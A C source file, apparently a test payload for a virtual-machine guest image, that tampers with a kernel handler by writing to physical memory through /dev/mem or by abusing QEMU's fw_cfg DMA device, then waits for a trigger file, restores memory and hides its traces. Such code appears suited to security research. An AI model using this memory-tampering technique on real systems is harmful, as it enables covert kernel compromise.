// SPDX-License-Identifier: GPL-2.0-only
/*
 * Tampers with the handler by writes to physical memory, waits for the file /enough, restores all.
 * The way to memory is one of /dev/mem, /dev/mem mapped (MAPPED), and a device: QEMU's fw_cfg,
 * which copies one of its files to wherever it is told (DEVICE; guest-images/payloads/port_dma.c).
 *
 * The guest has one CPU. A program of this priority is disturbed by none while it does not sleep.
 */
#include <linux/mman.h>
#include <linux/sched.h>
#include <linux/time_types.h>
#include <linux/types.h>

#include "dma.h"
#include "forge.h"

#define MILLISECOND 1000000

static const unsigned long places[] = {
	[SECRET] = SECRET_AT,
	[CHAIN] = CHAIN_AT,
	[TALLY] = TALLY_AT,
	[CHAINS] = CHAINS_AT,
};

static long memory;

static void sleep_for(long milliseconds)
{
	struct __kernel_timespec time = { .tv_nsec = milliseconds * MILLISECOND };

	sys(__NR_nanosleep, &time, 0);
}

#ifdef DEVICE

#define PORT 0x514
#define DIRECTORY 0x19
#define READ 2U
#define SELECT 8U
#define WRITE 16U
#define CHUNK 16 /* bytes of a file that the guest may write */

/* All of it big-endian. */
static volatile struct {
	__u32 control;
	__u32 size;
	__u64 address;
} request __aligned(16);

static volatile struct {
	__u32 count;
	struct {
		__u32 size;
		__u16 key;
		__u16 unused;
		char name[56];
	} files[60];
} directory __aligned(4096);

static volatile char chunk[CHUNK] __aligned(CHUNK);
static unsigned int scratch;

static void out(unsigned short port, __u32 value)
{
	__asm__ volatile("outl %0, %1" : : "a"(value), "Nd"(port) : "memory");
}

static void copy(unsigned int key, unsigned int way, unsigned long address, unsigned int size)
{
	unsigned long at = physical(&request);

	request.control = __builtin_bswap32(key << 16 | SELECT | way);
	request.size = __builtin_bswap32(size);
	request.address = __builtin_bswap64(address);
	out(PORT, __builtin_bswap32(at >> 32));
	out(PORT + 4, __builtin_bswap32(at));
}

static bool begin(void)
{
	static const char wanted[] = "etc/vmcoreinfo";
	unsigned int i, n;

	memory = sys(__NR_open, "/proc/kcore", O_RDONLY);
	if (memory < 0 || sys(__NR_iopl, 3))
		return false;
	directory.count = 1;
	copy(DIRECTORY, READ, physical(&directory), sizeof(directory));
	for (i = 0; i < __builtin_bswap32(directory.count); i++) {
		for (n = 0; n < sizeof(wanted) && directory.files[i].name[n] == wanted[n]; n++)
			;
		if (n == sizeof(wanted))
			scratch = __builtin_bswap16(directory.files[i].key);
	}
	return scratch;
}

static void get(enum place place, unsigned long offset, void *to, unsigned long size)
{
	sys(__NR_pread64, memory, to, size, KCORE_AT + places[place] + offset);
}

static void put(enum place place, unsigned long offset, const void *from, unsigned long size)
{
	unsigned long done, step;

	for (done = 0; done < size; done += step) {
		step = size - done < CHUNK ? size - done : CHUNK;
		memcpy((void *)chunk, from + done, step);
		copy(scratch, WRITE, physical(chunk), step);
		copy(scratch, READ, places[place] + offset + done, step);
	}
}

#elif defined(MAPPED)

static char *maps[ARRAY_SIZE(places)];

static bool begin(void)
{
	unsigned int i;

	memory = sys(__NR_open, "/dev/mem", O_RDWR);
	for (i = 0; i < ARRAY_SIZE(places); i++) {
		long at = sys(__NR_mmap, 0, 3 * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, memory,
			      places[i] & -PAGE);

		if (at < 0)
			return false;
		maps[i] = (char *)at + places[i] % PAGE;
	}
	return true;
}

static void get(enum place place, unsigned long offset, void *to, unsigned long size)
{
	memcpy(to, maps[place] + offset, size);
}

static void put(enum place place, unsigned long offset, const void *from, unsigned long size)
{
	memcpy(maps[place] + offset, from, size);
}

#else

static bool begin(void)
{
	memory = sys(__NR_open, "/dev/mem", O_RDWR);
	return memory >= 0;
}

static void get(enum place place, unsigned long offset, void *to, unsigned long size)
{
	sys(__NR_pread64, memory, to, size, places[place] + offset);
}

static void put(enum place place, unsigned long offset, const void *from, unsigned long size)
{
	sys(__NR_pwrite64, memory, from, size, places[place] + offset);
}

#endif

int main(int argc, char **argv, char **envp)
{
	int priority = 99;

	(void)argc;
	(void)argv;
	(void)envp;
	if (sys(__NR_sched_setscheduler, 0, SCHED_FIFO, &priority) || !begin())
		return 1;
	tamper();
	while (sys(__NR_access, "/enough", 0))
		sleep_for(5);
	do {
		mend();
		hide();
		sleep_for(50);
	} while (wrong_replies());
	return 0;
}
